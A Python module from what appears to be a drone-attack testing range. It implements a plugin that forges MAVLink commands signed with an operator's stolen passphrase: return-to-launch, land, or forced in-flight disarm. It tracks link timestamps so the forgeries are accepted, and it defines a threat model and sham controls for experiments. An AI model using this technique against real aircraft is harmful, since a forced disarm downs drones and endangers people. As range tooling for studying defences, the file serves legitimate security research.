"""Forged commands on a signed link, signed with the key of a passphrase that the attacker has or guesses."""

from __future__ import annotations

from typing import Annotated, Final, Literal

from pydantic import Field

from skyrange.attack.bases.mavlink.injection import InjectionOnLinks
from skyrange.attack.bases.mavlink.orders import STATION, Order
from skyrange.attack.contract import AttackContext, Controls, ThreatModel
from skyrange.attack.declaration import attack
from skyrange.attack.presets import CONTROL_LINKS
from skyrange.codec.mavlink import Packer
from skyrange.codec.mavlink import dialect as mav
from skyrange.codec.mavlink.frame_layout import MAGIC_V2
from skyrange.codec.mavlink.signing import (
    LAST_TIMESTAMP,
    UNIT_NS,
    is_signed,
    range_passphrase,
    secret_from_passphrase,
    sign_frame,
    signing_timestamp,
)
from skyrange.contracts.frames.frame import Frame
from skyrange.contracts.params import Number, Whole
from skyrange.contracts.plugins.fields import param
from skyrange.contracts.verdicts import Verdicts
from skyrange.core.ids import operator_of
from skyrange.core.time import Time

_FORCE: Final = 21196.0
"""Param 2 of MAV_CMD_COMPONENT_ARM_DISARM: disarm in flight too."""
_ORDERS: Final = {
    "return": Order(mav.MAV_CMD_NAV_RETURN_TO_LAUNCH),
    "land": Order(mav.MAV_CMD_NAV_LAND),
    "disarm": Order(mav.MAV_CMD_COMPONENT_ARM_DISARM, (0.0, _FORCE)),
}
_NOTHING: Final = Order(0)


@attack(
    "signing.stolen_key",
    technique="T0859",
    surface=CONTROL_LINKS,
    persists="mode",
    effect="a signed link obeys the attacker, because signatures prove the key and not the sender",
    threat=ThreatModel(
        knowledge="the operator's passphrase, which all its aircraft share; with a guessed one the frames are refused",
        position="on the network between ground station and aircraft; it need not hold up frames",
        equipment="a computer that sends MAVLink, and the key, from a stolen computer or aircraft of the operator",
        budget="a frame of 57 bytes per order",
    ),
    controls=Controls(
        load="the sham: the same frames with command 0, which asks for nothing",
        content="the same orders signed with another passphrase",
        placement="the same orders on the link of another aircraft of the operator",
    ),
)
class SignedOrders(InjectionOnLinks):
    """Gives orders signed with the stolen key of the operator.

    They are in the name of the ground station, with a timestamp that is later than all that passed. The sham sends
    command 0, which asks for nothing, with the same key and as many bytes.
    """

    passphrase: str | None = param(
        "Passphrase of the attacker's key; default: that of the operator, skyrange/SEED/OPERATOR, so the key is "
        "stolen. Any other one is a wrong key, and its frames are refused.",
        default=None,
        min_length=1,
    )
    order: Literal["return", "land", "disarm"] = param(
        "Order to the aircraft: MAV_CMD_NAV_RETURN_TO_LAUNCH, MAV_CMD_NAV_LAND, or MAV_CMD_COMPONENT_ARM_DISARM by "
        "force, which stops the motors in flight.",
        default="return",
    )
    every_s: Number = param("Time between two orders, in seconds.", default=1.0, ge=0.1, le=3600)
    link_id: Annotated[Whole, Field(ge=0, le=255)] = param(
        "Link id in the signatures. With that of the ground station, 0, its next frames may be refused, because the "
        "forged timestamp is later.",
        default=7,
    )
    secret: bytes
    packer: Packer
    initial: int
    """Timestamp at time 0 by the attacker's clock."""
    latest: int = 0
    """The latest timestamp that passed or was sent."""

    def prepare(self, context: AttackContext) -> None:
        """Set the clock."""
        self.initial = signing_timestamp(context.epoch.unix_ns)

    def begin(self) -> None:
        """Make the key for the link's operator."""
        super().begin()
        operator = operator_of(self.link.partition(":")[2])
        self.secret = secret_from_passphrase(self.passphrase or range_passphrase(self.chance.seed, operator))
        self.packer = Packer(*STATION)

    def on_frame(self, now: Time, frame: Frame) -> Verdicts:
        """Learn the latest timestamp: it is not encrypted."""
        payload = frame.payload
        if len(payload) > 12 and payload[0] == MAGIC_V2 and is_signed(payload):
            self.latest = max(self.latest, int.from_bytes(payload[-12:-6], "little"))
        return ()

    def send(self, now: Time) -> Verdicts:
        """The order."""
        order = _NOTHING if self.sham else _ORDERS[self.order]
        self.latest = min(max(self.latest + 1, self.initial + now // UNIT_NS), LAST_TIMESTAMP)
        frame = self.packer.pack(order.message(self.target))
        return [self.inject(sign_frame(frame, self.secret, self.link_id, self.latest))]
